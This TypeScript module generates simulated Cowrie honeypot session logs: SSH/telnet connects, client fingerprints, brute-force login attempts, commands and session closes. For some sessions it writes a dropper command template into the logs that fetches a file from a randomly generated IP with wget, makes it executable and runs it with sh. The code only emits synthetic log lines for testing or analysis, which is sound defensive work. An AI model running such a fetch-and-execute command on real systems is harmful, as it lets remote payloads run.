/**
 * One simulated attacker session as Cowrie would log it: connect, client version and kex (SSH),
 * failed and successful logins, commands, maybe a download, TTY log and close — in the old
 * (duration float, no uuid) or new (uuid, duration_ms) field forms.
 */
import { createHash } from 'node:crypto';
import { hash32 } from './world.js';
import { ARCHES, CLIENTS, COMMANDS, DOWNLOAD_NAMES, PASSWORDS, Prng, USERNAMES } from './log-vocab.js';

/** A bijection on 48-bit numbers (4-round Feistel): unique session ids without remembering them. */
export function sessionId48(i: number, seed: number): string {
  let l = Math.floor(i / 0x1000000) & 0xffffff;
  let r = i & 0xffffff;
  for (let round = 0; round < 4; round++) {
    const f = hash32(`${r}`, seed + round) & 0xffffff;
    [l, r] = [r, (l ^ f) & 0xffffff];
  }
  return l.toString(16).padStart(6, '0') + r.toString(16).padStart(6, '0');
}

const OFFSETS: Array<[string, number]> = [['+0000', 0], ['+0000', 0], ['+0100', 60], ['-0500', -300], ['+0800', 480]];

/** Cowrie's `%Y-%m-%dT%H:%M:%S.%fZ`, or with `%z` when not on UTC. */
export function cowrieTimestamp(us: number, offset?: [string, number]): string {
  const micros = String(us % 1_000_000).padStart(6, '0');
  if (offset === undefined) return `${new Date(Math.floor(us / 1000)).toISOString().slice(0, 19)}.${micros}Z`;
  return `${new Date(Math.floor(us / 1000) + offset[1] * 60_000).toISOString().slice(0, 19)}.${micros}${offset[0]}`;
}

export interface SensorInfo {
  name: string;
  /** What the `sensor` field says: the name, or "" like DShield sensors. */
  field: string;
  dstIp: string;
  uuid: string;
  /** Sessions from here on use the newer format (uuid, duration_ms). */
  upgradeUs: number;
}

export function uuidFor(seed: number, k: number): string {
  const h = createHash('sha256').update(`uuid:${seed}:${k}`).digest('hex');
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

/** Builds one session's lines; `emit` receives each (time, line). */
export class SessionWriter {
  constructor(
    private readonly rng: Prng,
    private readonly seed: number,
    private readonly emit: (t: number, line: string) => void,
  ) {}

  #ts(t: number): string {
    return this.rng.chance(0.03) ? cowrieTimestamp(t, this.rng.pick(OFFSETS)) : cowrieTimestamp(t);
  }

  write(i: number, start: number, ip: string, s: SensorInfo, crossUntil: number | null): void {
    const { rng } = this;
    const sid = rng.chance(0.03) ? sessionId48(i, this.seed) + rng.hex(20) : sessionId48(i, this.seed);
    const newFmt = start >= s.upgradeUs;
    const ssh = !rng.chance(0.12);
    const sport = 1024 + rng.int(64511);
    const dport = ssh ? 2222 : 2223;
    const tail = (ev: Record<string, unknown>, t: number) => {
      ev.sensor = s.field;
      if (newFmt) ev.uuid = s.uuid;
      ev.timestamp = this.#ts(t);
      ev.src_ip = ip;
      ev.session = sid;
      this.emit(t, JSON.stringify(ev));
    };
    let t = start;
    const connect: Record<string, unknown> = {
      eventid: 'cowrie.session.connect', src_ip: ip, src_port: sport, dst_ip: s.dstIp, dst_port: dport, session: sid,
      protocol: ssh ? 'ssh' : 'telnet', message: `New connection: ${ip}:${sport} (${s.dstIp}:${dport}) [session: ${sid}]`, sensor: s.field,
    };
    if (newFmt) connect.uuid = s.uuid;
    connect.timestamp = this.#ts(t);
    this.emit(t, JSON.stringify(connect));
    if (ssh) {
      // An IP mostly keeps its tool, so hassh and version cluster per source.
      const c = rng.chance(0.9) ? CLIENTS[hash32(ip, this.seed) % CLIENTS.length] : rng.pick(CLIENTS);
      t += 50_000 + rng.int(750_000);
      tail({ eventid: 'cowrie.client.version', version: c.version, message: `Remote SSH version: ${c.version}` }, t);
      t += 10_000 + rng.int(190_000);
      tail({
        eventid: 'cowrie.client.kex', hassh: c.hassh, hasshAlgorithms: c.hasshAlgorithms, kexAlgs: c.kexAlgs, keyAlgs: c.keyAlgs,
        encCS: c.encCS, macCS: c.macCS, compCS: c.compCS, langCS: [], message: `SSH client hassh fingerprint: ${c.hassh}`,
      }, t);
    }
    const scanner = rng.chance(0.12);
    let failures = scanner ? 0 : rng.geometric(2, 40);
    const success = !scanner && rng.chance(0.3);
    if (!scanner && failures === 0 && !success) failures = 1;
    for (let f = 0; f < failures; f++) {
      const u = rng.pick(USERNAMES), p = rng.pick(PASSWORDS);
      t += 300_000 + rng.int(3_700_000);
      tail({ eventid: 'cowrie.login.failed', username: u, password: p, message: `login attempt [${u}/${p}] failed` }, t);
    }
    if (success) {
      const u = rng.pick(USERNAMES), p = rng.pick(PASSWORDS);
      t += 300_000 + rng.int(3_700_000);
      tail({ eventid: 'cowrie.login.success', username: u, password: p, message: `login attempt [${u}/${p}] succeeded` }, t);
      if (!newFmt) {
        t += 100_000 + rng.int(900_000);
        tail({ eventid: 'cowrie.session.params', arch: rng.pick(ARCHES), message: [] }, t);
      }
      const commands = 1 + rng.geometric(3, 30);
      const download = rng.chance(0.2) ? 1 + rng.int(commands) : -1;
      for (let c = 1; c <= commands; c++) {
        t += 200_000 + rng.int(5_800_000);
        if (c !== download) {
          const cmd = rng.pick(COMMANDS);
          tail({ eventid: 'cowrie.command.input', input: cmd, message: `CMD: ${cmd}` }, t);
          continue;
        }
        const name = rng.pick(DOWNLOAD_NAMES);
        // A handful of malware hosts; one URL always serves the same file.
        const host = `${45 + rng.int(4)}.${rng.int(8) * 17}.${100 + rng.int(4)}.${10 + rng.int(5)}`;
        const url = `http://${host}/${name}`;
        const shasum = createHash('sha256').update(`${this.seed}:${url}`).digest('hex');
        const cmd = `cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget ${url}; chmod 777 ${name}; sh ${name}`;
        tail({ eventid: 'cowrie.command.input', input: cmd, message: `CMD: ${cmd}` }, t);
        t += 500_000 + rng.int(2_500_000);
        const outfile = `var/lib/cowrie/downloads/${shasum}`;
        tail({
          eventid: 'cowrie.session.file_download', url, outfile, shasum, destfile: `/tmp/${name}`, duplicate: rng.chance(0.5),
          message: `Downloaded URL (${url}) with SHA-256 ${shasum} to ${outfile}`,
        }, t);
      }
      const tty = createHash('sha256').update(`${sid}:tty`).digest('hex');
      t += 50_000 + rng.int(500_000);
      const secs = (t - start) / 1e6;
      tail({
        eventid: 'cowrie.log.closed', ttylog: `var/lib/cowrie/tty/${tty}`, size: 200 + rng.int(20_000), shasum: tty, duplicate: false,
        ...(newFmt ? { duration_ms: Math.round(secs * 1000) } : { duration: secs }),
        message: `Closing TTY Log: var/lib/cowrie/tty/${tty} after ${Math.trunc(secs)} seconds`,
      }, t);
    }
    // A few sessions idle until Cowrie's timeout: the long tail of durations.
    if (rng.chance(0.03)) t += 60_000_000 + rng.int(120_000_000);
    if (crossUntil !== null && t < crossUntil) t = crossUntil + rng.int(30_000_000);
    t += 50_000 + rng.int(1_500_000);
    const secs = (t - start) / 1e6;
    tail(newFmt
      ? { eventid: 'cowrie.session.closed', duration_ms: Math.round(secs * 1000), message: `Connection lost after ${Math.round(secs * 1000)} milliseconds` }
      : { eventid: 'cowrie.session.closed', duration: secs, message: `Connection lost after ${Math.trunc(secs)} seconds` }, t);
  }
}

